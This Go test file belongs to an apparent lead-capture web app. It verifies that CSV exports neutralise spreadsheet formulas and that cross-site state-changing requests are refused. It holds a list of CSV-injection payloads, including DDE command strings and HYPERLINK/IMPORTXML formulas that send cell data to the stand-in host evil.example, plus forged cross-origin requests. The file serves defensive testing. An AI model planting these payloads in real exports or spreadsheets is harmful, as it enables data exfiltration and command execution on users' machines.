package web

import (
	"bytes"
	"io"
	"mime/multipart"
	"time"

	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/lodestone-hq/lodestone/internal/capture"
	"github.com/lodestone-hq/lodestone/internal/jobs"

	"github.com/lodestone-hq/lodestone/internal/store"
)

// formulaPayloads are cell values a spreadsheet would run as formulas (OWASP's CSV
// injection list, and the variants that slip past a naive check).
var formulaPayloads = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"Click")`,
	`=cmd|' /C calc'!A0`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`=1+1`,
	`=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")`,
	"-1",
	"@x",
	`"=1+1"`,
	"a\n=1+1",
}

// exportParams are the query parameters an export route may need; a new export
// needing others makes TestExportsNeutraliseFormulas say so.
const exportParams = "all=1&from=2000-01-01&to=2100-01-01&group_by=campaign"

// TestExportsNeutraliseFormulas proves the promise "CSV exports cannot run as
// spreadsheet formulas" (docs/reliability.md, Security) for every export: each GET
// route of the table that answers CSV to an admin (and every route whose pattern
// ends in .csv) is read after formula payloads were put into every lead field, and
// no cell may start with =, +, -, @, a tab or a carriage return.
func TestExportsNeutraliseFormulas(t *testing.T) {
	f := newAuthzFixture(t)
	admin := credential{header: []string{"Authorization", "Bearer " + f.keys[store.RoleAdmin]}}
	var events []any
	for i, p := range formulaPayloads {
		props := map[string]any{}
		for _, k := range []string{"first_name", "last_name", "company", "job_title", "street", "postal_code", "city", "region", "country",
			"utm_source", "utm_medium", "utm_campaign", "utm_term", "utm_content", "referrer", "page_url", "custom_field", "notes"} {
			props[k] = p
		}
		events = append(events, map[string]any{"type": "form_submit", "email": "formula" + itoa(int64(i)) + "@example.com", "properties": props})
	}
	b, _ := json.Marshal(map[string]any{"events": events})
	if w := f.do("POST", "/api/v1/events", admin, string(b)); w.Code != http.StatusAccepted {
		t.Fatalf("events: %d %s", w.Code, w.Body)
	}
	// Campaigns named with the payloads, each with a lead, so that the sources
	// report by campaign lists every name.
	events = nil
	for i, p := range formulaPayloads {
		key := "fx" + itoa(int64(i))
		body, _ := json.Marshal(map[string]any{"name": p + " " + itoa(int64(i)), "channel": "event", "notes": p, "utm_campaign": key})
		if w := f.do("POST", "/api/v1/campaigns", admin, string(body)); w.Code != http.StatusCreated {
			t.Fatalf("campaign %d: %d %s", i, w.Code, w.Body)
		}
		events = append(events, map[string]any{"type": "form_submit", "email": "fx" + itoa(int64(i)) + "@example.com",
			"properties": map[string]any{"utm_campaign": key, "utm_source": "fair", "first_name": p}})
	}
	b, _ = json.Marshal(map[string]any{"events": events})
	if w := f.do("POST", "/api/v1/events", admin, string(b)); w.Code != http.StatusAccepted {
		t.Fatalf("campaign events: %d %s", w.Code, w.Body)
	}
	// Segment 1 holds the payload contacts.
	if w := f.do("POST", "/api/v1/segments", admin, `{"name": "formulas", "filter_text": "email contains \"formula\""}`); w.Code != http.StatusCreated {
		t.Fatalf("segment: %d %s", w.Code, w.Body)
	}
	// Import 1 rejects rows made of payloads (none has a usable email or phone), and
	// its rejected rows come back as CSV.
	f.importRejecting(t, admin)

	exports := 0
	for _, rt := range f.srv.routes() {
		method, path := f.path(rt.pattern)
		if method != http.MethodGet {
			continue
		}
		w := f.do(method, path+"?"+exportParams, admin)
		isCSV := strings.HasPrefix(w.Header().Get("Content-Type"), "text/csv")
		if strings.HasSuffix(rt.pattern, ".csv") && (w.Code != http.StatusOK || !isCSV) {
			t.Errorf("%s answers %d %q to an admin with %s: give exportParams what it needs", rt.pattern, w.Code, w.Header().Get("Content-Type"), exportParams)
			continue
		}
		if !isCSV {
			continue
		}
		exports++
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(w.Body.String(), "\ufeff")))
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Errorf("%s: not CSV: %v", rt.pattern, err)
			continue
		}
		if len(rows) < len(formulaPayloads) {
			t.Errorf("%s: %d rows; the payloads are not in the export, so it proves nothing", rt.pattern, len(rows))
		}
		for i, row := range rows {
			for j, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s row %d column %d starts a formula: %q", rt.pattern, i+1, j+1, cell)
				}
			}
		}
	}
	if exports == 0 {
		t.Fatal("no route answered CSV: the mailing list export is gone")
	}
}

// TestCrossSiteRequestsRefused proves the promise "a cross-site request that changes
// something is refused, while the public capture endpoints accept posts from any
// site" (docs/reliability.md, Security) for every route of the table: each POST, PUT,
// PATCH and DELETE route is called from another site as a browser would (Origin and
// Sec-Fetch-Site), with a logged-in admin's session cookie, and must be a 403 with
// nothing changed, unless it is a public capture route; those must accept the post.
func TestCrossSiteRequestsRefused(t *testing.T) {
	f := newAuthzFixture(t)
	ctx := context.Background()
	// Cross-site capture routes: their own checks (signatures, limits) apply, never the
	// cross-origin refusal.
	crossSiteOK := map[string]bool{"POST /f/{slug}": true, "POST /collect": true,
		"POST /webhooks/google-ads": true, "POST /webhooks/facebook": true, "POST /webhooks/linkedin": true}
	before, err := f.srv.store.Audit(ctx, 1000)
	if err != nil {
		t.Fatal(err)
	}
	for _, rt := range f.srv.routes() {
		method, path := f.path(rt.pattern)
		if method == http.MethodGet || method == http.MethodHead || method == http.MethodOptions {
			continue
		}
		for _, body := range []struct{ ctype, body string }{
			{"application/x-www-form-urlencoded", url.Values{"body": {"cross-site"}, "stage": {"customer"}, "reason": {"x"}, "loser_id": {"2"},
				"email": {"victim@example.com"}, "password": {"whatever-it-is"}}.Encode()},
			{"text/plain", `{"events":[{"type":"x","email":"csrf@example.com"}],"name":"csrf","channel":"event","body":"x"}`},
		} {
			r := httptest.NewRequest(method, path, strings.NewReader(body.body))
			r.Header.Set("Content-Type", body.ctype)
			r.Header.Set("Origin", "https://evil.example")
			r.Header.Set("Sec-Fetch-Site", "cross-site")
			r.AddCookie(&http.Cookie{Name: sessionCookie, Value: f.sessions[store.RoleAdmin]})
			w := httptest.NewRecorder()
			f.srv.ServeHTTP(w, r)
			switch {
			case crossSiteOK[rt.pattern] && w.Code == http.StatusForbidden && strings.Contains(w.Body.String(), "cross-origin"):
				t.Errorf("%s refuses cross-site posts, but it is a public capture endpoint", rt.pattern)
			case !crossSiteOK[rt.pattern] && w.Code != http.StatusForbidden:
				t.Errorf("cross-site %s %s = %d, want 403", method, path, w.Code)
			}
		}
	}
	after, _ := f.srv.store.Audit(ctx, 1000)
	if len(after) != len(before) {
		t.Errorf("cross-site requests wrote %d audit entries", len(after)-len(before))
	}
	// Only the hosted form may have stored its victim@; the events API's body never.
	if page, _ := f.srv.store.Contacts(ctx, store.ContactFilter{Email: "csrf@example.com"}); page == nil || len(page.Contacts) != 0 {
		t.Errorf("a cross-site request recorded events: %v", page)
	}

	// The public form, posted from another site by a browser, is stored.
	r := httptest.NewRequest("POST", "/f/authz", strings.NewReader("email=cross.site%40example.com"))
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	r.Header.Set("Origin", "https://customer-site.example")
	r.Header.Set("Sec-Fetch-Site", "cross-site")
	w := httptest.NewRecorder()
	f.srv.ServeHTTP(w, r)
	if w.Code != http.StatusSeeOther {
		t.Fatalf("cross-site form post = %d %s", w.Code, w.Body)
	}
	page, err := f.srv.store.Contacts(ctx, store.ContactFilter{Email: "cross.site@example.com"})
	if err != nil || len(page.Contacts) != 1 {
		t.Fatalf("the cross-site form post was not stored: %v %v", page, err)
	}
}

// importRejecting uploads a CSV whose rows are all payloads, runs the import job to
// its end and leaves import 1 with every row rejected.
func (f *authzFixture) importRejecting(t *testing.T, admin credential) {
	t.Helper()
	var file strings.Builder
	file.WriteString("email,first_name,company\n")
	cw := csv.NewWriter(&file)
	for _, p := range formulaPayloads {
		_ = cw.Write([]string{p, p, p})
	}
	cw.Flush()
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	_ = mw.WriteField("channel", "event")
	fw, _ := mw.CreateFormFile("file", "payloads.csv")
	_, _ = io.WriteString(fw, file.String())
	mw.Close()
	r := httptest.NewRequest("POST", "/api/v1/imports", &b)
	r.Header.Set("Content-Type", mw.FormDataContentType())
	r.Header.Set(admin.header[0], admin.header[1])
	w := httptest.NewRecorder()
	f.srv.ServeHTTP(w, r)
	if w.Code != http.StatusAccepted {
		t.Fatalf("import: %d %s", w.Code, w.Body)
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	worker := &jobs.Worker{Store: f.srv.store, Handlers: (&capture.ImportRunner{Store: f.srv.store, Region: "DE"}).Handlers(), Poll: 10 * time.Millisecond}
	done := make(chan struct{})
	go func() { _ = worker.Run(ctx); close(done) }()
	defer func() { cancel(); <-done }()
	for {
		w := f.do("GET", "/api/v1/imports/1", admin)
		var st struct {
			Status string `json:"status"`
		}
		_ = json.Unmarshal(w.Body.Bytes(), &st)
		if st.Status == "done" || st.Status == "failed" {
			if st.Status != "done" {
				t.Fatalf("import: %s", w.Body)
			}
			return
		}
		if ctx.Err() != nil {
			t.Fatalf("import did not finish: %s", w.Body)
		}
		time.Sleep(20 * time.Millisecond)
	}
}
